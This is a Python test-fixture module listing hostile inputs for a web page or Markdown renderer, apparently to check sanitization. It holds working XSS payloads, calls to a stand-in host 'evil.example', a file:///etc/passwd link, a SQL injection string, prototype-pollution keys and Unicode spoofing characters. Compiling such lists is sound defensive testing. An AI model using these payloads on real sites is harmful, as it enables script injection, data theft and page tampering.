"""Hostile texts: what somebody might write so that a page runs, fetches or hides something."""

from __future__ import annotations

_ACTS = ("window.hacked=1", "fetch('https://evil.example/x')", "document.title='hacked'")
_MARKUP = (
    "<script>{0}</script>",
    '<img src=x onerror="{0}">',
    '<svg onload="{0}">',
    '<iframe srcdoc="<script>{0}</script>"></iframe>',
    '<a href="javascript:{0}">click</a>',
    '<body onload="{0}">',
    '<details open ontoggle="{0}">x</details>',
    '<math><mtext></p><style><img src onerror="{0}"></style></mtext></math>',
    '"><script>{0}</script>',
    "</textarea><script>{0}</script>",
    "<style>@import 'https://evil.example/a.css';/*{0}*/</style>",
    '<link rel=stylesheet href=https://evil.example/b.css title="{0}">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/?{0}">',
    "<form action=https://evil.example/><button>{0}</button></form>",
    '<object data=https://evil.example/o title="{0}"></object>',
    '<video autoplay src=https://evil.example/v onerror="{0}"></video>',
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
)
_LINKS = (
    "javascript:window.hacked=1",
    "JaVaScRiPt:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "vbscript:msgbox(1)",
    "https://evil.example/p.png",
    "//evil.example/p.png",
    "http://evil.example/p.png?q=secret",
    "file:///etc/passwd",
)
_MARKDOWN = ("![x]({0})", "[click]({0})", "<{0}>", "[x]: {0}\n\n![x]", '[a](<{0}> "t")')
_HIDDEN = ("\u202e", "\u2066", "\u200b", "\u200f", "\u2028", "\ufeff", "\u00ad", "\u061c")

HOSTILE = [
    *(markup.format(act) for markup in _MARKUP for act in _ACTS),
    *(form.format(link) for form in _MARKDOWN for link in _LINKS),
    *(f"pay{hidden}ee 100 {hidden}txt.exe" for hidden in _HIDDEN),
    "a" * 5_000,
    "字" * 3_000,
    "Z\u0351\u0343\u0342\u034c" * 200,
    "\n" * 300 + "end",
    "> " * 200 + "deep",
    "*" * 999,
    "`" * 999,
    "[" * 999,
    "| a | b |\n|---|---|\n| <img src=x onerror=window.hacked=1> | x |",
    "```html\n<script>window.hacked=1</script>\n```",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hacked=1&#62;",
    "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "'; DROP TABLE sessions; --",
    "__proto__",
    "constructor",
    "\u0430pple.com (the first letter is Cyrillic)",
    "👩\u200d💻 and 🏴\U000e0067\U000e0062",
]
